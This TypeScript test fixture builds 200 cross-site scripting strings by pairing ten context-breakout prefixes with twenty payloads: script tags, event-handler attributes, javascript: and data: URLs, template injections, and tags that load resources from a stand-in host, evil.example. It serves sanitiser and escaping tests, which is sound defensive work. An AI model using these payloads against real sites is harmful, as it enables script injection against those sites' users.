/** 200 texts that try to become script where they are shown: in elements, attributes, addresses, styles and templates. */

const payloads = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror=window.pwned=1>',
  '<svg onload=window.pwned=1>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;">',
  '<details open ontoggle=window.pwned=1>',
  '<body onpageshow=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<math><mtext><script>window.pwned=1</script>',
  '<style>@import "//evil.example/x.css"</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<object data=//evil.example/x.swf>',
  '<embed src=//evil.example/x.svg>',
  'javascript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  '{{constructor.constructor("window.pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template would run
  '${window.pwned=1}',
];
/** What stands before a payload, to get out of where it is put. */
const breakouts = ['', '"', "'", '">', "'>", '-->', ']]>', '</title>', '</textarea>', '`'];

export const hostileTexts: readonly string[] = breakouts.flatMap((breakout) =>
  payloads.map((payload) => `${breakout}${payload}`),
);
